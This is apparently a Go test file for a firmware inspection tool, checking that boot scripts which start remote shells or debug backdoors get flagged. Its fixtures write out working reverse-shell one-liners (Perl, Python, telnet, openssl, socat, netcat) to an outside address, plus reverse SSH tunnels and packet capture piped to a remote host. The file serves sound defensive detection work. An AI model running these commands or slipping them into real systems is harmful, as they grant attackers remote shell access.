package inspect_test

import "testing"

// Shells and terminals over the network, in either direction.
func TestCallsBack(t *testing.T) {
	deb := "daemon.debug-at-boot confirmed"
	tryVariants(t, []variant{
		{"ttyd", started("ttyd -p 7681 /bin/sh &\n", "usr/bin/ttyd", prog("ttyd")), deb},
		{"ttyd present", []string{"usr/bin/ttyd", prog("ttyd")}, ""},
		{"ttyd credential", started("ttyd -c admin:Qx81 -p 7681 /bin/login &\n", "usr/bin/ttyd", prog("ttyd")), "daemon.debug-at-boot suspicious"},
		{"shellinabox", started("shellinaboxd -t -s /:SHELL\n", "usr/bin/shellinaboxd", prog("s")), deb},
		{"reverse ssh", started("ssh -f -N -i /etc/k -R 2222:localhost:22 u@203.0.113.4\n", "usr/bin/ssh", prog("OpenSSH_9.2")), "daemon.debug-at-boot probable 203.0.113.4"},
		{"autossh cond", started("[ -f /etc/rssh ] && autossh -M 0 -N -R 2222:localhost:22 u@203.0.113.4\n", "usr/bin/autossh", prog("a")), "daemon.debug-at-boot suspicious"},
		{"ssh forward local", started("ssh -f -N -L 8080:localhost:80 u@203.0.113.4\n", "usr/bin/ssh", prog("OpenSSH_9.2")), ""},
		{"perl reverse", started("perl -e 'use Socket;$i=\"203.0.113.4\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};' &\n", "usr/bin/perl", prog("perl")), deb},
		{"python reverse", started("python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.4\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])' &\n", "usr/bin/python", prog("python")), deb},
		{"python server", started("python3 -m http.server 8000 &\n", "usr/bin/python3", prog("py")), ""},
		{"telnet pipe", started("mknod /tmp/p p\ntelnet 203.0.113.4 4444 0</tmp/p | /bin/sh 1>/tmp/p &\n", "usr/bin/telnet", prog("t")), deb},
		{"openssl pipe", started("mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.4:443 > /tmp/s\n", "usr/bin/openssl", prog("o")), deb},
		{"nc probe", started("nc -z 192.0.2.1 80 && echo up\n", "bin/nc", "-> busybox"), ""},
		{"nc file", started("nc 192.0.2.1 9000 < /etc/version\n", "bin/nc", "-> busybox"), ""},
		{"nc unix", started("nc -lU /var/run/x.sock -e /bin/sh &\n", "bin/nc", "-> busybox"), "daemon.debug-at-boot suspicious"},
		{"lldb", started("lldb-server platform --listen '*:1234' --server &\n", "usr/bin/lldb-server", prog("l")), deb},
		{"tcpdump to file", started("tcpdump -i eth0 -w /tmp/a.pcap &\n", "usr/sbin/tcpdump", prog("t")), "daemon.debug-at-boot suspicious"},
		{"tcpdump to host", started("tcpdump -i any -w - | nc 203.0.113.4 9999 &\n", "usr/sbin/tcpdump", prog("t"), "bin/nc", "-> busybox"), "daemon.debug-at-boot suspicious"},
		{"rshd", started("inetd\n", "usr/sbin/inetd", prog("i"), "usr/sbin/in.rshd", prog("r"), "etc/inetd.conf", "shell stream tcp nowait root /usr/sbin/in.rshd in.rshd\n"), deb},
		{"tftp inetd", started("inetd\n", "usr/sbin/inetd", prog("i"), "usr/sbin/tftpd", prog("r"), "etc/inetd.conf", "tftp dgram udp wait root /usr/sbin/tftpd tftpd -s /srv\n"), ""},
		{"busybox httpd", started("httpd -p 80 -h /www\n", "usr/sbin/httpd", "-> ../../bin/busybox"), ""},
		{"socat to serial", started("socat TCP-LISTEN:5000,fork FILE:/dev/ttyS1,b9600 &\n", "usr/bin/socat", prog("s")), ""},
		{"socat system", started("socat OPENSSL-LISTEN:5001,cert=/etc/c.pem,verify=0 SYSTEM:/bin/sh &\n", "usr/bin/socat", prog("s")), deb},
		{"ssh no passwords", started("dropbear -s -g\n"), "daemon.ssh-at-boot note"},
		{"sshd keys only", started("/usr/sbin/sshd\n", "usr/sbin/sshd", prog("OpenSSH_9.2"), "etc/ssh/sshd_config", "PasswordAuthentication no\nPermitRootLogin prohibit-password\n"), "daemon.ssh-at-boot note"},
		{"adb prop secure tcp", []string{"etc/inittab", "", "etc/init.d/rcS", "", "system/bin/adbd", prog("adbd"), "system/bin/sh", prog("mksh"), "init.rc", "service adbd /system/bin/adbd\n  class core\n  disabled\n", "default.prop", "ro.adb.secure=1\nro.debuggable=0\npersist.sys.usb.config=none\n#service.adb.tcp.port=5555\n"}, ""},
		{"adb vendor prop", []string{"etc/inittab", "", "etc/init.d/rcS", "", "system/bin/adbd", prog("adbd"), "system/bin/sh", prog("mksh"), "init.rc", "import /init.usb.rc\n", "init.usb.rc", "on property:sys.usb.config=adb\n  start adbd\nservice adbd /system/bin/adbd\n  class core\n  disabled\n", "vendor/build.prop", "ro.adb.secure=0\nro.debuggable=1\npersist.sys.usb.config=adb\n"}, "daemon.adb-at-boot confirmed"},
	})
}
